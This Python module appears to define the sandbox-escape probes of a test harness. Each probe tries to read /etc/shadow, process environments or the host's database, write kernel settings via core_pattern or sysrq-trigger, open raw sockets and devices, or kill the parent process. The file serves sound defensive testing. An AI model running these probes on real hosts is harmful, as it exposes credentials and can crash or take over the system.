"""Attacks that reach for what belongs to the host: files, environment, network, processes."""

from __future__ import annotations

from sandbox.attacks.attack import attack

ATTACKS = (
    attack(
        "passwd",
        "read the accounts of the host",
        """
def attack(bait):
    paths = ('/etc/passwd', '/etc/shadow', '/etc/hostname', '/etc/../etc/passwd')
    return tried(*[lambda p=p: open(p).read() for p in paths])
""",
    ),
    attack(
        "planted-file",
        "read a file of the host whose path it was told",
        """
import os, io, pathlib
def attack(bait):
    path = bait['file']
    return tried(
        lambda: open(path).read(),
        lambda: os.read(os.open(path, os.O_RDONLY), 99),
        lambda: io.FileIO(path).read(),
        lambda: pathlib.Path('/proc/self/root' + path).read_text(),
        lambda: os.listdir(bait['folder']),
        lambda: open(path, opener=lambda p, f: os.open(p, os.O_NOFOLLOW)).read(),
    )
""",
    ),
    attack(
        "application-source",
        "read the application's own source",
        """
import os, sys
def attack(bait):
    found = []
    for path in (bait['source'], *sys.path):
        for root, folders, files in os.walk(os.path.dirname(path) or path):
            if 'manage.py' in files or 'attacks' in folders:
                found.append(bait['breach'])
            break
    return tried(lambda: open(bait['source']).read() and bait['breach']) + found
""",
    ),
    attack(
        "database-file",
        "open the database of the application",
        """
import sqlite3
def attack(bait):
    path = bait['database']
    return tried(
        lambda: sqlite3.connect(path).execute('select * from t').fetchall(),
        lambda: sqlite3.connect(f'file:{path}?mode=ro&immutable=1', uri=True)
            .execute('select * from t').fetchall(),
        lambda: sqlite3.connect(':memory:').execute('attach ? as other', [path])
            .execute('select * from other.t').fetchall(),
    )
""",
    ),
    attack(
        "environment",
        "read the environment of the host's processes",
        """
import os, ctypes
def attack(bait):
    libc = ctypes.CDLL(None)
    environ = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, 'environ')
    raw = []
    for i in range(200):
        if not environ or environ[i] is None:
            break
        raw.append(environ[i])
    pids = ('self', '1', str(os.getppid()), str(bait['pid']), 'thread-self')
    return [dict(os.environ), raw] + tried(
        *[lambda p=p: open(f'/proc/{p}/environ', 'rb').read() for p in pids])
""",
    ),
    attack(
        "proc",
        "learn of other processes from /proc",
        """
import os
def attack(bait):
    names = ('cmdline', 'maps', 'mem', 'fd', 'root', 'cwd', 'status', 'mountinfo')
    found = tried(lambda: bait['breach'] if os.listdir('/proc') else None)
    for pid in ('self', '1', '2', str(bait['pid'])):
        for name in names:
            found += tried(lambda: open(f'/proc/{pid}/{name}', 'rb').read(64) and bait['breach'])
            if (pid, name) != ('self', 'cwd'):  # its own files, by another path
                found += tried(lambda: os.listdir(f'/proc/{pid}/{name}') and bait['breach'])
    return found
""",
    ),
    attack(
        "sys",
        "read or write the kernel's settings in /sys",
        """
import os
def attack(bait):
    return tried(
        lambda: os.listdir('/sys') and bait['breach'],
        lambda: os.listdir('/sys/fs/cgroup') and bait['breach'],
        lambda: open('/sys/kernel/uevent_helper', 'w') and bait['breach'],
        lambda: open('/proc/sys/kernel/core_pattern', 'w') and bait['breach'],
        lambda: open('/proc/sysrq-trigger', 'w') and bait['breach'],
    )
""",
    ),
    attack(
        "tcp",
        "connect to a service on the host",
        """
import socket
def attack(bait):
    def reach(host):
        socket.create_connection((host, bait['port']), 0.5).sendall(b'x')
        return bait['breach']
    return tried(*[lambda h=h: reach(h) for h in ('127.0.0.1', 'localhost', '0.0.0.0', '10.0.2.2')])
""",
    ),
    attack(
        "udp",
        "send a datagram to a service on the host",
        """
import socket
def attack(bait):
    def send():
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.sendto(b'x', ('127.0.0.1', bait['datagrams']))
    return tried(send)
""",
    ),
    attack(
        "unix-socket",
        "connect to a socket in the file system of the host",
        """
import socket
def attack(bait):
    def reach(kind):
        socket.socket(socket.AF_UNIX, kind).connect(bait['local'])
    return tried(lambda: reach(socket.SOCK_STREAM), lambda: reach(socket.SOCK_DGRAM))
""",
    ),
    attack(
        "abstract-socket",
        "connect to an abstract socket of the host",
        """
import socket
def attack(bait):
    def from_pair():
        a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
        a.sendto(b'x', '\\0' + bait['abstract'])
    def connect_pair():
        a, b = socket.socketpair()
        a.connect('\\0' + bait['abstract'])
    def plain():
        socket.socket(socket.AF_UNIX).connect('\\0' + bait['abstract'])
    return tried(plain, from_pair, connect_pair)
""",
    ),
    attack(
        "other-sockets",
        "open raw, packet, netlink, vsock and crypto sockets",
        """
import socket
def attack(bait):
    def opened(family, kind):
        socket.socket(family, kind)
        return bait['breach']
    kinds = ((socket.AF_INET, socket.SOCK_RAW), (socket.AF_PACKET, socket.SOCK_RAW),
             (socket.AF_NETLINK, socket.SOCK_RAW), (40, socket.SOCK_STREAM), (38, 5),
             (socket.AF_INET6, socket.SOCK_STREAM))
    return tried(*[lambda k=k: opened(*k) for k in kinds])
""",
    ),
    attack(
        "listen",
        "offer a service to the host or to another box",
        """
import socket
def attack(bait):
    def offer():
        s = socket.socket()
        s.bind(('0.0.0.0', 0))
        s.listen()
        return bait['breach']
    return tried(offer, lambda: socket.socketpair()[0].bind('\\0box') or bait['breach'])
""",
    ),
    attack(
        "name-lookup",
        "ask a name server, and so send a message out",
        """
import socket
def attack(bait):
    return tried(lambda: socket.getaddrinfo(bait['breach'] + '.example.org', 80) and bait['breach'],
                 lambda: socket.gethostbyname('example.org') and bait['breach'])
""",
    ),
    attack(
        "symlink",
        "reach a file of the host by a link",
        """
import os
def attack(bait):
    def link(make, base):
        name = os.path.join(base, 'link')
        make(bait['file'], name)
        return open(name).read()
    places = ('/tmp', os.path.dirname(__file__))
    return tried(*[lambda m=m, p=p: link(m, p) for m in (os.symlink, os.link) for p in places])
""",
    ),
    attack(
        "parent-folders",
        "walk up from its own folder and from open descriptors",
        """
import os
def attack(bait):
    up = '/'.join(['..'] * 20)
    def by_descriptor(fd):
        return os.read(os.open(up + bait['file'], os.O_RDONLY, dir_fd=fd), 99)
    here = os.open(os.path.dirname(__file__), os.O_RDONLY)
    return tried(lambda: open(up + bait['file']).read(), lambda: by_descriptor(here),
                 *[lambda f=f: by_descriptor(f) for f in range(3, 12)])
""",
    ),
    attack(
        "inherited-descriptors",
        "find a useful descriptor that was left open",
        """
import os, stat
def attack(bait):
    found = []
    for fd in range(3, 1024):
        try:
            mode = os.fstat(fd).st_mode
        except OSError:
            continue
        if fd > 3 or not stat.S_ISSOCK(mode):
            found.append([fd, oct(mode)])
    return [bait['breach'], found] if found else None
""",
    ),
    attack(
        "host-packages",
        "import packages of the application",
        """
import importlib, sys
def attack(bait):
    def get(name):
        module = importlib.import_module(name)
        return bait['breach'] + name if module.__file__ else None
    names = ('django', 'celery', 'redis', 'psycopg', 'config.settings', 'sandbox.types',
             'pytest', 'pip', 'exercises')
    return tried(*[lambda n=n: get(n) for n in names])
""",
    ),
    attack(
        "kill-parent",
        "kill the fork server and the host",
        """
import os, signal
def attack(bait):
    pids = (os.getppid(), bait['pid'], 1, 2, 0, -1)
    signals = (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP)
    return tried(
        *[lambda p=p, s=s: os.kill(p, s) or [bait['breach'], p] for p in pids for s in signals],
        lambda: os.killpg(0, signal.SIGKILL), lambda: os.killpg(os.getpgid(0), signal.SIGKILL))
""",
    ),
    attack(
        "pidfd",
        "signal the host by a process descriptor",
        """
import os, signal
def attack(bait):
    def hit(pid):
        signal.pidfd_send_signal(os.pidfd_open(pid), signal.SIGKILL)
        return bait['breach']
    return tried(*[lambda p=p: hit(p) for p in (bait['pid'], os.getppid() or 1, 1, 2)])
""",
    ),
    attack(
        "daemon",
        "stay alive after the box has ended",
        """
import os, threading, time
def attack(bait):
    def work():
        while True:
            time.sleep(0.01)
    for _ in range(4):
        threading.Thread(target=work).start()
    return tried(lambda: os.setsid() and bait['breach'], lambda: os.setpgid(0, 0),
                 lambda: os.fork() == 0 and work(), lambda: os.forkpty() and bait['breach'])
""",
    ),
    attack(
        "standard-input",
        "read what is not its own from standard input and terminals",
        """
import os, sys
def attack(bait):
    return tried(lambda: sys.stdin.read(), lambda: input(), lambda: os.read(0, 10),
                 lambda: open('/dev/tty').read(1) and bait['breach'],
                 lambda: os.openpty() and bait['breach'])
""",
    ),
    attack(
        "devices",
        "open devices of the host",
        """
import os
def attack(bait):
    names = ('mem', 'kmem', 'kmsg', 'port', 'sda', 'vda', 'kvm', 'fuse', 'net/tun', 'ptmx',
             'loop-control', 'mqueue', 'userfaultfd')
    return tried(*[lambda n=n: os.open('/dev/' + n, os.O_RDONLY) and bait['breach'] for n in names],
                 lambda: os.mknod('/tmp/mem', 0o20600, os.makedev(1, 1)) or bait['breach'])
""",
    ),
)
